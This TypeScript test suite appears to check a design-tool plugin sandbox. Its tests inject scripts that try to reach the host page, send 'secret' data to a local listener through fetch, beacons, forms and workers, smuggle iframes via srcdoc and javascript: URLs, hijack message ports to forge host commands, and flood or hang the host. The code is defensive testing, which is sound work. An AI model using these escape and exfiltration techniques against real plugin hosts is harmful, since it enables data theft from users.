import { createSocket } from 'node:dgram';
import { createServer, type Socket } from 'node:net';
import type { Page } from 'playwright-core';
import t, { type Test } from 'tap';
import { frameAddress } from '../../packages/sandbox/domains.ts';
import { until } from '../support/until.ts';
import { newPage } from './support/page.ts';
import { eventOf, type Origins, type Program, runPlugin, startSandboxHost } from './support/sandbox-host.ts';

/** What browsers say of what they refuse. */
const REFUSALS =
  /Content.Security.Policy|sandbox|ERR_|Failed to load resource|Blocked|permission|Trusted|insecure|Unsafe attempt|origin-keyed|TrustedHTML|preload|cookie|SecurityError|Uncaught/i;

type Listener = { http: string; host: string; stun: string; heard: string[] };

/** A stranger's server, which notes every connection and packet. `cors`: its answers may be read. */
async function listen(t: Test): Promise<Listener> {
  const heard: string[] = [];
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    heard.push('connection');
    socket.on('error', () => undefined);
    socket.on('data', (data) => {
      heard.push(String(data).split('\r\n')[0] ?? '');
      socket.end('HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\n\r\nok');
    });
  });
  const packets = createSocket('udp4', () => heard.push('packet'));
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  await new Promise<void>((done) => packets.bind(0, '127.0.0.1', done));
  t.teardown(() => {
    for (const socket of sockets) socket.destroy();
    server.close();
    packets.close();
  });
  const address = server.address();
  const port = typeof address === 'object' ? address?.port : undefined;
  const host = `127.0.0.1:${port}`;
  return { http: `http://${host}`, host, stun: `stun:127.0.0.1:${packets.address().port}`, heard };
}

/** A script for a panel that tries something, then tells `main` what came of it; `main` ends with that. */
const panel = (script: string): { main: string; ui: string } => ({
  main: `pixso.showUI(__html__); pixso.ui.onmessage = (text) => pixso.closePlugin(text);`,
  ui: `<body><script>
    const tell = (text) => parent.postMessage({ pluginMessage: String(text) }, '*');
    const attempt = async (action) => { try { return await action(); } catch (error) { return error.name; } };
    (async () => { ${script} })().catch((error) => tell('threw ' + error));
  </script>`,
});

async function openHost(t: Test, { host }: Origins): Promise<Page> {
  const page = await newPage(t, { expected: REFUSALS });
  await page.goto(host);
  return page;
}

t.test('what a plugin in the sandbox cannot do', async (t) => {
  const origins = await startSandboxHost(t);
  const told = async (t: Test, script: string, domains: string[] = []): Promise<string> => {
    const page = await openHost(t, origins);
    await runPlugin(page, origins, { ...panel(script), domains });
    return (await eventOf(page, 'ended')).text;
  };

  t.test('reach the page, or have storage and cookies', async (t) => {
    const text = await told(
      t,
      `tell([
        origin,
        await attempt(() => top.document.title),
        await attempt(() => parent.document.title),
        await attempt(() => parent.parent.host.run),
        await attempt(() => frameElement === null),
        await attempt(() => localStorage.length),
        await attempt(() => document.cookie = 'a=b'),
        await attempt(() => indexedDB.open('x').constructor.name),
        await attempt(() => caches.keys()),
        await attempt(() => navigator.serviceWorker.register('/x.js')),
      ].join());`,
    );
    const refused = (count: number) => Array(count).fill('SecurityError').join();
    t.equal(text, `null,${refused(3)},true,${refused(5)}`);
    const page = await openHost(t, origins);
    await runPlugin(page, origins, {
      main: `(async () => {
        const attempt = async (action) => { try { return await action(); } catch (error) { return error.name; } };
        pixso.closePlugin([
          origin, typeof document, typeof localStorage, typeof RTCPeerConnection,
          await attempt(() => indexedDB.open('x').constructor.name), await attempt(() => caches.keys()),
        ].join());
      })();`,
    });
    const { text: ofMain } = await eventOf(page, 'ended');
    t.equal(ofMain, 'null,undefined,undefined,undefined,SecurityError,ReferenceError', 'nor has main');
  });

  t.test('open windows, send forms, or take the page, the frame or itself elsewhere', async (t) => {
    const stranger = await listen(t);
    const page = await openHost(t, origins);
    const places = ['top', 'parent', 'self'];
    for (const place of places) {
      await runPlugin(page, origins, {
        main: `pixso.showUI(__html__);`,
        ui: `<body><script>
          try { ${place}.location = '${stranger.http}/${place}?secret'; } catch {}
          try { ${place}.location.replace('${stranger.http}/${place}?secret'); } catch {}
        </script><meta http-equiv="refresh" content="0;url=${stranger.http}/refresh">`,
      });
      await eventOf(page, 'panel');
    }
    const text = await told(
      t,
      `const form = document.createElement('form');
      form.action = '${stranger.http}/form';
      document.body.append(form);
      form.submit();
      const link = Object.assign(document.createElement('a'), { href: '${stranger.http}/link', target: '_blank', download: 'x' });
      document.body.append(link);
      link.click();
      setTimeout(() => tell(String(open('${stranger.http}/popup'))), 300);`,
    );
    t.equal(text, 'null');
    t.equal(page.context().pages().length, 1);
    t.equal(page.url(), `${origins.host}/`);
    t.strictSame(stranger.heard, []);
  });

  t.test('send anything to a domain that is not declared', async (t) => {
    const stranger = await listen(t);
    const { http, host } = stranger;
    const text = await told(
      t,
      `const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
      add('<img src="${http}/img"><link rel="prefetch" href="${http}/prefetch"><link rel="preload" as="image" href="${http}/preload">');
      add('<link rel="preconnect" href="${http}"><link rel="dns-prefetch" href="${http}"><link rel="stylesheet" href="${http}/css">');
      add('<link rel="modulepreload" href="${http}/module"><link rel="manifest" href="${http}/manifest"><link rel="icon" href="${http}/icon">');
      add('<video src="${http}/video"></video><object data="${http}/object"></object><embed src="${http}/embed"><iframe src="${http}/frame"></iframe>');
      add('<style>@import "${http}/import"; body { background: url(${http}/background) } @font-face { font-family: x; src: url(${http}/font) } * { font-family: x }</style>');
      add('<svg><image href="${http}/svg"/><use href="${http}/use#x"/></svg>');
      const script = document.createElement('script');
      script.src = '${http}/script';
      document.body.append(script);
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      rules.textContent = JSON.stringify({ prefetch: [{ urls: ['${http}/speculation'] }] });
      document.body.append(rules);
      const closes = (socket) => new Promise((done) => { socket.onerror = () => done('closed'); socket.onopen = () => done('open'); });
      const results = [
        await attempt(() => fetch('${http}/fetch', { mode: 'no-cors' })),
        await attempt(() => import('${http}/import-script')),
        await attempt(() => closes(new WebSocket('ws://${host}/socket'))),
        await attempt(() => closes(new EventSource('${http}/events'))),
        navigator.sendBeacon('${http}/beacon', 'secret'),
        await attempt(() => new Promise((done) => { const worker = new Worker(URL.createObjectURL(new Blob(['fetch("${http}/worker").then(() => postMessage("sent"), () => postMessage("refused"))']))); worker.onmessage = ({ data }) => done(data); })),
      ];
      setTimeout(() => tell(results.join()), 500);`,
    );
    t.match(text, /^TypeError,TypeError,closed,closed,(?:true|false),refused$/);
    const page = await openHost(t, origins);
    await runPlugin(page, origins, {
      main: `fetch('${http}/main').then(() => pixso.closePlugin('sent'), () => pixso.closePlugin('refused'));`,
    });
    t.equal((await eventOf(page, 'ended')).text, 'refused', 'nor does main');
    t.strictSame(stranger.heard, []);
  });

  t.test('while a declared one answers', async (t) => {
    const friend = await listen(t);
    const page = await openHost(t, origins);
    await runPlugin(page, origins, {
      main: `fetch('${friend.http}/data').then((answer) => answer.text()).then((text) => pixso.closePlugin(text), (error) => pixso.closePlugin(String(error)));`,
      domains: [friend.http],
    });
    t.equal((await eventOf(page, 'ended')).text, 'ok');
    t.strictSame(friend.heard, ['connection', 'GET /data HTTP/1.1']);
  });

  t.test('use WebRTC, by itself or in documents that it makes', async (t) => {
    const stranger = await listen(t);
    const call = `const peer = new RTCPeerConnection({ iceServers: [{ urls: '${stranger.stun}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
    const frame = `<iframe srcdoc="<script>${call}</script>"></iframe>`;
    // By hand, what a test without this protection hears.
    const free = await openHost(t, origins);
    await free.evaluate(call);
    await until(() => stranger.heard.includes('packet'));
    await free.close();
    stranger.heard.length = 0;
    const text = await told(
      t,
      `const html = ${JSON.stringify(frame).replaceAll('</', '<\\/')};
      const inner = ${JSON.stringify(`<script>${call}</script>`).replaceAll('</', '<\\/')};
      const name = 'src' + 'doc';
      const make = (set) => attempt(() => { const element = document.createElement('iframe'); set(element); document.body.append(element); });
      await make((element) => { element[name] = inner; });
      await make((element) => element.setAttribute(name, inner));
      await make((element) => element.setAttributeNS(null, name, inner));
      await make((element) => { const one = document.createAttribute(name); one.value = inner; element.setAttributeNode(one); });
      await make((element) => { element.setAttribute(name, ''); element.attributes[0].value = inner; });
      await make((element) => { element.src = 'javascript:' + inner; });
      await make((element) => { element.src = URL.createObjectURL(new Blob([inner], { type: 'text/html' })); });
      await make((element) => { element.src = 'data:text/html,' + encodeURIComponent(inner); });
      document.body.insertAdjacentHTML('beforeend', html);
      document.body.append(document.createRange().createContextualFragment(html));
      document.write('<iframe src');
      document.write('doc="' + inner.replaceAll('"', '&quot;') + '"></iframe>');
      const policy = await attempt(() => trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
      setTimeout(() => tell([typeof RTCPeerConnection, typeof XSLTProcessor, policy].join()), 1000);`,
    );
    t.equal(text, 'undefined,undefined,TypeError');
    const page = await openHost(t, origins);
    await runPlugin(page, origins, { main: 'pixso.showUI(__html__);', ui: frame });
    await eventOf(page, 'panel');
    await page.frameLocator('iframe').frameLocator('iframe').locator('iframe').waitFor({ state: 'attached' });
    t.strictSame(stranger.heard, [], 'nor from the page of its package');
  });

  t.test('forge messages to the host', async (t) => {
    const page = await openHost(t, origins);
    await runPlugin(page, origins, {
      main: 'pixso.showUI(__html__); pixso.ui.onmessage = () => pixso.closePlugin("asked");',
      ui: `<body><script>
        const forged = { kind: 'changes', changes: [{ kind: 'select', ids: [] }] };
        for (const place of [top, parent]) place.postMessage(forged, '*');
        top.postMessage({ sandbox: 1 }, '*', [new MessageChannel().port2]);
        parent.postMessage({ sandbox: 1 }, '*', [new MessageChannel().port2]);
        setTimeout(() => parent.postMessage({ pluginMessage: 'done' }, '*'), 300);
      </script>`,
    });
    t.equal((await eventOf(page, 'ended')).text, 'asked');
    t.strictSame(
      await page.evaluate(() => host.events.map(({ kind }) => kind)),
      ['started', 'panel', 'ended'],
      'messages of windows are not read',
    );
    // `main` gets hold of its own port.
    const steal = (message: string) => `
      let port;
      const { postMessage } = MessagePort.prototype;
      MessagePort.prototype.postMessage = function (...all) { port = this; return postMessage.apply(this, all); };
      pixso.notify('x');
      postMessage.call(port, ${message});`;
    for (const message of [
      `{ kind: 'changes', changes: [{ kind: 'create', node: { id: 'x', type: 'SCRIPT', parent: null } }] }`,
      `{ kind: 'pong', nonce: 'guessed' }`,
      `{ kind: 'ready' }`,
      `{ kind: 'eval', code: 'alert(1)' }`,
    ]) {
      await runPlugin(page, origins, { main: steal(message) });
      t.equal((await eventOf(page, 'ended')).reason, 'forged', message);
    }
  });

  t.test('be shown in the frame of another page', async (t) => {
    const page = await openHost(t, origins);
    const stranger = await listen(t);
    await page.goto(stranger.http);
    const address = frameAddress(`${origins.frame}/`, []);
    const failed = page.waitForEvent('requestfailed', (request) => request.url() === address);
    await page.evaluate((src) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
    }, address);
    t.equal((await failed).failure()?.errorText, 'net::ERR_BLOCKED_BY_RESPONSE');
  });

  const loop = { main: 'pixso.showUI(__html__);', ui: '<script>for (;;);</script>', patience: 2 };
  const endOf = async (page: Page, program: Program): Promise<string> => {
    await runPlugin(page, origins, program);
    const { reason } = await eventOf(page, 'ended');
    await page.waitForFunction(() => document.querySelector('iframe') === null);
    return reason;
  };

  t.test('go on for ever', async (t) => {
    const page = await openHost(t, origins);
    t.equal(await endOf(page, { main: 'for (;;);', patience: 2 }), 'unresponsive');
    t.equal(await endOf(page, loop), 'unresponsive', 'in its panel');
    t.equal(await endOf(page, { main: 'close();', patience: 2 }), 'unresponsive', 'without its worker');
  });

  t.test('flood the host', async (t) => {
    const page = await openHost(t, origins);
    const flood = (call: string) => `setInterval(() => { for (let i = 0; i < 200; i += 1) ${call}; });`;
    t.equal(await endOf(page, { main: flood(`pixso.notify('x')`) }), 'flood');
    const ui = `<script>${flood(`parent.postMessage({ pluginMessage: i }, '*')`)}</script>`;
    t.equal(await endOf(page, { main: 'pixso.showUI(__html__);', ui }), 'flood', 'from its panel');
    const nodes = 'for (let i = 0; i < 60_000; i += 1) pixso.createRectangle();';
    t.equal(await endOf(page, { main: nodes }), 'flood', 'with nodes');
    t.equal(await page.evaluate(() => host.snapshot.nodes.length), 50_000);
  });
});
